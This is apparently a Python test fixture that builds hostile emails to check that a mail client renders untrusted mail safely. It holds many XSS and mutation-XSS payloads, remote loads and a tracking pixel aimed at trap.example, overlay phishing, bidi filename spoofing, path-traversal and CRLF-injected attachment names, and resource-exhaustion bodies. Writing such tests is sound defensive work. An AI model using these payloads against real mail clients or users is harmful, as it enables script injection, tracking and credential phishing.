"""Mail that wants to do something to whoever looks at it. Each would be seen at once if it could: by a dialog, a request, another title."""

from urllib.parse import quote

from tests.browser.letters import WILD, Letter, letter

#: where every trap leads; a request there, or the look-up of its name, is a failure
ELSEWHERE = "trap.example"
_DO = "alert(1);parent.document.title=document.title='taken';top.location='https://trap.example/top'"
_RUNS = f"""<html><head><title>taken</title><base href="https://trap.example/"><meta http-equiv="refresh" content="0;url=https://trap.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><link rel="stylesheet" href="https://trap.example/a.css">
<link rel="prefetch" href="https://trap.example/p"><link rel="dns-prefetch" href="//trap.example"><link rel="preconnect" href="https://trap.example">
<style>@import "https://trap.example/b.css";@font-face{{font-family:x;src:url(https://trap.example/f.woff)}}body{{font-family:x;background:url(https://trap.example/bg.png)}}</style>
<script>{_DO}</script><script src="https://trap.example/s.js"></script></head>
<body onload="{_DO}" background="https://trap.example/body.png">
<p style="background:url('https://trap.example/p.png');color:red">text in red</p>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">covers all</div>
<img src="https://trap.example/pixel.gif?id=4711" width="1" height="1"><img src=x onerror="{_DO}"><img srcset="https://trap.example/2x.png 2x" alt="two">
<picture><source srcset="https://trap.example/src.png"><img alt="three" src="//trap.example/img.png"></picture>
<svg onload="{_DO}"><script>{_DO}</script><image href="https://trap.example/svg.png"/><animate onbegin="{_DO}" attributeName="x"/><foreignObject><iframe src="https://trap.example/fo"></iframe></foreignObject></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{_DO}">m</maction></math>
<iframe src="https://trap.example/frame"></iframe><iframe srcdoc="<script>{_DO}</script>"></iframe><object data="https://trap.example/o"></object><embed src="https://trap.example/e">
<video src="https://trap.example/v" poster="https://trap.example/poster" autoplay onplay="{_DO}"></video><audio src="https://trap.example/a" autoplay></audio>
<form action="https://trap.example/form"><input name="password" autofocus onfocus="{_DO}"><button formaction="javascript:{_DO}">Sign in again</button></form>
<a href="javascript:{_DO}">one</a> <a href="data:text/html,<script>{_DO}</script>">two</a> <a href="vbscript:x">three</a> <a href="java&#10;script:{_DO}">four</a>
<a href="https://trap.example/link" ping="https://trap.example/ping" target="_top">https://shop.test/</a> <details open ontoggle="{_DO}"><summary>s</summary></details>
<marquee onstart="{_DO}">m</marquee><input type="image" src="https://trap.example/i"><table background="https://trap.example/t"><tr><td>cell</td></tr></table>
<template><script>{_DO}</script></template><noscript><img src="https://trap.example/noscript"></noscript><portal src="https://trap.example/portal"></portal>
</body></html>"""
#: what sanitizers have fallen for: text that turns into markup when it is parsed a second time
_MUTATES = """<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"><listing>&lt;img src=https://trap.example/l&gt;</listing>
<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title><plaintext>"""
_COVERS = """<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;margin:-500px;background:red">Sign in again</div>
<div style="width:99999px">wide</div><p style="font-size:9999px">huge</p><p style="line-height:0;margin:-9999px">gone</p>"""
_BIDI = "\u202egnp.elif\u202c \u2066\u2069\u200f\u061c\u2028"
_MARKUP = "</title><script>alert(1)</script><img src=https://trap.example/s onerror=alert(1)>"


_FILES = (
    (f"bill{_BIDI}.html", "text/html", "<script>alert(1)</script>"),
    (
        '"><img src=x onerror=alert(1)>.svg',
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    ("../../etc/passwd\r\nSet-Cookie: a=b.exe", "application/octet-stream", "MZ"),
    ("n" * 300 + ".pdf", "application/pdf", "%PDF"),
)


def _disguised() -> Letter:
    """Names of people and files that try to be something else."""
    name = f'"Support support@wild.test {_BIDI} <img src=x onerror=alert(1)>" <thief@trap.example>'
    text = f"Look: {_BIDI} {_MARKUP} {{{{ 7*7 }}}} {{% raw %}} https://trap.example/ javascript:alert(1)"
    parts = "".join(
        f"--b\r\nContent-Type: {kind}\r\nContent-Disposition: attachment; filename*=UTF-8''{quote(name, safe='')}\r\n\r\n{content}\r\n"
        for name, kind, content in _FILES
    )
    raw = (
        f"From: {name}\r\nTo: {WILD}\r\nSubject: wild: disguised\r\nMessage-ID: <disguised@trap.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"{text}\r\n{parts}--b--\r\n"
    )
    return Letter(subject="wild: disguised", raw=raw.encode(), to=WILD)


def _wild(subject: str, html: str, text: str = "Please look.") -> Letter:
    return letter(WILD, f"wild: {subject}", text, html=html, sender="Mallory <mallory@trap.example>")


WILD_LETTERS = (
    _wild("runs", _RUNS),
    _wild("mutates", _MUTATES),
    _wild("covers", _COVERS),
    _disguised(),
    _wild(_MARKUP, "<p>see the subject</p>"),
    _wild("five megabytes", "<p>" + "<b>word</b> and <a href='https://trap.example/'>link</a> " * 95_000),
    _wild("fifty thousand deep", "<div>" * 50_000 + "x" + "</div>" * 50_000),
    _wild("long text", "", text="All work and no play makes Jack a dull boy. \n" * 110_000),
    _wild("combining marks", "", text=("a" + "\u0301\u0327\u20dd" * 400 + " \u202e") * 60),
)
